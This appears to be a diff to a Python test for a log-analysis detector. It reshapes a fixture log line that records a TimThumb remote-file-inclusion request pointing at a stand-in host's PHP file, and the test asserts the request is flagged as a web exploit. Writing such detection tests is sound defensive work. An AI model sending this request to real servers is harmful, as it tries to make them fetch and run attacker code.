@@ -85,6 +85,7 @@ def test_a_symptom_belongs_to_a_device_and_a_tenant_cannot_make_one() -> None:
 
 
 def test_an_exploit_request_accuses_the_server_whose_log_it_is() -> None:
-    line = '192.0.2.66 - - [20/Nov/2026:10:00:00 +0000] "GET /timthumb.php?src=http://192.0.2.9/x.php HTTP/1.1" 200 1 "-" "x"'
+    request = '"GET /timthumb.php?src=http://192.0.2.9/x.php HTTP/1.1" 200 1 "-" "x"'
+    line = f"192.0.2.66 - - [20/Nov/2026:10:00:00 +0000] {request}"
     (claim,) = said(line, "198.18.4.7").claims
     assert (claim.detector, claim.peer, claim.compromise) == ("web_exploit", "192.0.2.66", True)
